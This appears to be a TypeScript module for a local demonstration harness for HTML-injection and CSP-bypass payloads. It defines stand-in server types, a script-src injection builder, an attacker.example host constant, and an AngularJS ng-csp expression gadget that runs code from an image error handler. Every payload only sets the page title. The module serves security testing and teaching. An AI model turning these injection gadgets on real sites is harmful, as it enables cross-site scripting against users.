/**
 * Payloads: HTML that shows what a weakness lets through, and what has to answer for it.
 * @module
 */

/** What a server that stands in for another has to answer. */
export type StandIn =
  /** A script with this text. */
  | { readonly type: "script"; readonly url: string; readonly body: string }
  /** A script that starts with the value of this parameter, followed by `({})`. */
  | { readonly type: "jsonp"; readonly url: string; readonly parameter: string }
  /** A redirect there. */
  | { readonly type: "redirect"; readonly url: string; readonly to: string }
  /** The library itself, of a version that has the gadget. */
  | { readonly type: "library"; readonly url: string; readonly library: string };

/**
 * A demonstration, to be run in a browser against stand-ins on one's own machine. Nothing in it leaves the page: what
 * runs sets the document's title.
 */
export interface Payload {
  /** What the attacker injects. It comes first in the page's body. */
  readonly html: string;
  /** What the page itself has to hold after it, for those that use its own scripts. */
  readonly page: string;
  readonly standIns: readonly StandIn[];
  /** How one sees that it ran. */
  readonly proves: string;
}

/** The script of every payload. */
export const proof = 'document.title="ran"';
const proves = 'The title of the document becomes "ran".';

/** A host that is the attacker's own. */
export const attacker = "https://attacker.example";

export function payload(html: string, standIns: readonly StandIn[] = [], page = ""): Payload {
  return { html, page, standIns, proves };
}

/** A script element that loads a URL, which answers with the proof. */
export function scriptFrom(url: string): Payload {
  return payload(`<script src="${escapeAttribute(url)}"></script>`, [
    { type: "script", url, body: proof },
  ]);
}

/** The text as the value of an attribute in double quotes. */
export function escapeAttribute(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
}

/** What AngularJS interprets without evaluating text: its own expressions, here in a handler of an event. */
export const angularExpression: string = `<div ng-app ng-csp><img ng-if="true" ng-src="x:" ng-on-error="$event.target.ownerDocument.title='ran'"></div>`;
